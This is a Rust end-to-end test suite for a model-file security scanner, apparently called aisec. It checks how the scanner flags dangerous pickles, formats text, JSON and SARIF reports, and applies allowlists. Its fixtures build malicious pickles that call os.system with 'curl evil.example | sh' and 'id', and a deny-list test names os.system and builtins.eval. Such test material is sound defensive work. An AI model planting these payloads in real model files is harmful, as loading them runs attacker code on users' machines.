//! `aisec scan` end to end: exit codes, text, JSON and SARIF, allowlists, strictness.

use std::path::Path;
use std::process::{Command, Output};

use aisec_scan::craft::{self, call};

fn aisec(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_aisec"))
        .args(args)
        .env_remove("CI")
        .output()
        .unwrap()
}

fn aisec_line(line: &str) -> Output {
    aisec(&line.split_whitespace().collect::<Vec<_>>())
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn corpus(dir: &Path) {
    std::fs::create_dir_all(dir.join("models/nested")).unwrap();
    std::fs::write(
        dir.join("models/benign.pt"),
        craft::torch_zip(
            &craft::torch_state_dict(2, 8),
            &[vec![0u8; 32], vec![1u8; 32]],
        ),
    )
    .unwrap();
    std::fs::write(
        dir.join("models/nested/evil.bin"),
        call("os", "system", &["curl evil.example | sh"]),
    )
    .unwrap();
    std::fs::write(dir.join("models/README.md"), "# a model\n").unwrap();
}

#[test]
fn exit_codes_text_json_and_sarif() {
    let dir = tempfile::tempdir().unwrap();
    corpus(dir.path());
    let root = dir.path().to_str().unwrap();

    let benign = dir.path().join("models/benign.pt");
    let o = aisec(&["scan", benign.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    assert!(stdout(&o).contains("safe"));

    let o = aisec(&["scan", root]);
    assert_eq!(o.status.code(), Some(1));
    let text = stdout(&o);
    assert!(text.contains("DANGEROUS"), "{text}");
    assert!(text.contains("AISEC-PKL-001"), "{text}");
    assert!(
        text.contains("os.system(\"curl evil.example | sh\")"),
        "{text}"
    );
    assert!(text.contains("(REDUCE)"), "{text}");
    assert!(text.contains("not models in "), "{text}");
    assert!(text.contains(": README.md (plain text"), "{text}");
    assert!(
        text.contains(
            "3 files: 1 dangerous, 0 suspicious, 0 unknown, 1 safe, 0 errors, 1 not a model"
        ),
        "{text}"
    );

    let o = aisec_line(&format!("scan {root} --format json"));
    assert_eq!(o.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(report["kind"], "scan");
    assert_eq!(report["atlas"][0], "AML.T0011.000");
    let finding = &report["findings"][0];
    assert_eq!(finding["severity"], "critical");
    assert_eq!(finding["evidence"]["rule"], "AISEC-PKL-001");
    assert_eq!(
        finding["evidence"]["call"],
        "os.system(\"curl evil.example | sh\")"
    );
    assert_eq!(finding["mitigations"][0]["id"], "AML.M0016");
    assert!(!finding["mitigations"][0]["phases"]
        .as_array()
        .unwrap()
        .is_empty());
    assert!(report["metrics"]["wall_seconds"].as_f64().unwrap() > 0.0);
    assert_eq!(report["observations"]["exit_code"], 1);
    let files = report["observations"]["files"].as_array().unwrap();
    assert_eq!(files.len(), 3);
    let evil = files
        .iter()
        .find(|f| f["path"].as_str().unwrap().ends_with("evil.bin"))
        .unwrap();
    assert_eq!(evil["format"], "pickle");
    assert_eq!(evil["verdict"], "dangerous");
    assert_eq!(evil["findings"][0]["rule"], "AISEC-PKL-001");
    assert_eq!(evil["findings"][0]["opcode"], "REDUCE");

    let o = aisec_line(&format!("scan {root} --format sarif"));
    assert_eq!(o.status.code(), Some(1));
    let sarif: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    let run = &sarif["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), 1);
    let result = &results[0];
    let rule = &rules[result["ruleIndex"].as_u64().unwrap() as usize];
    assert_eq!(rule["id"], result["ruleId"]);
    let tags: Vec<&str> = rule["properties"]["tags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap())
        .collect();
    assert!(
        tags.contains(&"CWE-502") && tags.contains(&"AML.T0011.000"),
        "{tags:?}"
    );
    assert_eq!(result["level"], "error");
    assert!(
        result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap()
            .ends_with("models/nested/evil.bin")
    );
    assert!(result["locations"][0]["physicalLocation"]["region"]["byteOffset"].is_u64());
    assert_eq!(run["invocations"][0]["executionSuccessful"], true);

    // SARIF to a file, as CI uploads it.
    let out = dir.path().join("scan.sarif");
    let o = aisec_line(&format!(
        "scan {} --format sarif --out {}",
        root,
        out.to_str().unwrap()
    ));
    assert_eq!(o.status.code(), Some(1));
    assert!(std::fs::read_to_string(&out).unwrap().contains("\"2.1.0\""));
}

#[test]
fn unreviewed_calls_fail_references_need_strict_and_allowlists_clear_them() {
    let dir = tempfile::tempdir().unwrap();
    let model = dir.path().join("model.pkl");
    std::fs::write(&model, call("ourlab.models", "Net", &[])).unwrap();
    let path = model.to_str().unwrap();
    let o = aisec(&["scan", path]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    let text = stdout(&o);
    assert!(
        text.contains("SUSPICIOUS") && text.contains("AISEC-PKL-007"),
        "{text}"
    );
    assert!(text.contains("--allow ourlab.models.Net"), "{text}");
    assert_eq!(
        aisec_line(&format!("scan {path} --allow ourlab.models.Net"))
            .status
            .code(),
        Some(0)
    );
    // A comma-separated list allows each of its names (it once allowed none).
    assert_eq!(
        aisec_line(&format!(
            "scan {path} --allow other.Thing,ourlab.models.Net"
        ))
        .status
        .code(),
        Some(0)
    );
    // A reference that is never called is reported, and fails only under --strict.
    let reference = dir.path().join("reference.pkl");
    std::fs::write(
        &reference,
        craft::PickleWriter::new()
            .proto(2)
            .global("ourlab.models", "Net")
            .tuple1()
            .stop()
            .finish(),
    )
    .unwrap();
    let reference = reference.to_str().unwrap();
    let o = aisec(&["scan", reference]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    assert!(stdout(&o).contains("UNKNOWN"));
    assert_eq!(
        aisec(&["scan", reference, "--strict"]).status.code(),
        Some(1)
    );
    let list = dir.path().join("allow.txt");
    std::fs::write(&list, "# our models\nourlab.models.*  trained in house\n").unwrap();
    for p in [path, reference] {
        assert_eq!(
            aisec(&["scan", p, "--strict", "--allowlist", list.to_str().unwrap()])
                .status
                .code(),
            Some(0)
        );
    }

    // The deny list wins, with a message naming the argument.
    let o = aisec_line(&format!("scan {path} --allow os.system"));
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("--allow `os.system` stays dangerous"));
    std::fs::write(&list, "builtins.eval\n").unwrap();
    let o = aisec(&["scan", path, "--allowlist", list.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("allow.txt:1:"));
}

#[test]
fn errors_fail_closed() {
    let dir = tempfile::tempdir().unwrap();
    let broken = dir.path().join("broken.pt");
    std::fs::write(&broken, b"PK\x03\x04 not really a zip").unwrap();
    let o = aisec(&["scan", broken.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    let text = stdout(&o);
    assert!(
        text.contains("ERROR") && text.contains("broken.pt") && text.contains("zip"),
        "{text}"
    );

    let o = aisec(&["scan", dir.path().join("missing.pkl").to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));

    // A payload that runs before the pickle breaks: the finding decides the exit code, and
    // the error is still shown.
    let truncated = dir.path().join("truncated.pkl");
    std::fs::write(&truncated, b"cos\nsystem\n(S'id'\ntRX\xff\xff\xff\x00ab").unwrap();
    let o = aisec(&["scan", truncated.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    let text = stdout(&o);
    assert!(
        text.contains("DANGEROUS") && text.contains("error:"),
        "{text}"
    );

    let o = aisec(&["scan", broken.to_str().unwrap(), "--format", "sarif"]);
    let sarif: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(
        sarif["runs"][0]["invocations"][0]["executionSuccessful"],
        false
    );

    let o = aisec_line("atlas matrix --format sarif");
    assert_eq!(o.status.code(), Some(2));

    let o = aisec(&["scan", "--help"]);
    assert!(stdout(&o).contains("Exit codes: 0"));
}

/// A file named like a model that holds text or nothing is not a model a loader would read —
/// an unfinished download, a Git LFS pointer — and fails closed (exit 2), where it once was
/// called safe; the same text named as text is safe.
#[test]
fn text_or_nothing_named_like_a_model_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    let lfs = "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 1234\n";
    for (name, body) in [
        ("model.onnx", lfs),
        ("weights.safetensors", lfs),
        ("empty.pt", ""),
    ] {
        let p = dir.path().join(name);
        std::fs::write(&p, body).unwrap();
        let o = aisec(&["scan", p.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(2), "{name}: {}", stdout(&o));
        assert!(stdout(&o).contains("named like a"), "{}", stdout(&o));
    }
    let p = dir.path().join("pointer.txt");
    std::fs::write(&p, lfs).unwrap();
    assert_eq!(aisec(&["scan", p.to_str().unwrap()]).status.code(), Some(0));
}
